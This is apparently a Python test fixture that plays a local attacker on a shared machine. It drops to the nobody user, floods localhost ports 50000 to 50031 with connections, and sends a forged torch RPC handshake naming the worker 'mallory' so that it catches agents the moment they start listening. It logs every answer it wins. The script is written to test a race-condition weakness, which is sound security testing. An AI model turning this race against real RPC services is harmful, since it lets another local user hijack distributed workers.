"""An attacker for tests: another user of the machine, who connects in the moment in which an agent begins to listen.

    python race.py FILE

It knows where agents will listen. (An attacker takes all but a few of the ports that the system gives to sockets; the
test leaves only these.) It does nothing but connect there and speak as a worker of torch RPC does. FILE gets a line for
each answer. If root starts it, it becomes the user nobody. Nothing of this project is imported.
"""

import contextlib
import errno
import itertools
import os
import select
import socket
import struct
import sys

NOBODY = 65534
PORTS = range(50_000, 50_032)


def framed(frame):
    return struct.pack("<Q", len(frame)) + frame


OPENING = framed(b"\xb8\x00\xb9\x01\xbd\x07mallory") + framed(
    b"\xb9\x02\xbb\x01\xbd\x02uv\xbd\x04uv:*\xbb\x01\xbd\x05basic\xbb\x01\xb9\x02\xbd\x03cpu\x00\xbd\x03any"
)


def main():
    wins = os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT | os.O_APPEND)
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    print("ready", flush=True)
    waiting, sources = {}, itertools.cycle(range(2000, 40_000))
    poll = select.epoll()
    while True:
        for port in PORTS:
            one = socket.socket()
            one.setblocking(False)
            one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            with contextlib.suppress(OSError):
                one.bind(("127.0.0.3", next(sources)))
            code = one.connect_ex(("127.0.0.1", port))
            if code in (0, errno.EINPROGRESS):
                with contextlib.suppress(OSError):
                    one.send(OPENING)
                waiting[one.fileno()] = one
                poll.register(one, select.EPOLLIN | select.EPOLLOUT | select.EPOLLERR)
            else:
                one.close()
        for descriptor, events in poll.poll(0):
            one = waiting[descriptor]
            try:
                if events & select.EPOLLIN:
                    answer = one.recv(1000)
                    if b"\xbd\x02uv\xbd" in answer:
                        os.write(wins, f"{one.getpeername()[1]} {answer.hex()}\n".encode())
                    raise OSError
                if events & select.EPOLLOUT:
                    poll.modify(one, select.EPOLLIN | select.EPOLLERR)
                    one.send(OPENING)
            except OSError:
                poll.unregister(one)
                waiting.pop(descriptor).close()
        while len(waiting) > 2000:  # those whose packets are dropped
            one = waiting.pop(next(iter(waiting)))
            poll.unregister(one)
            one.close()


main()
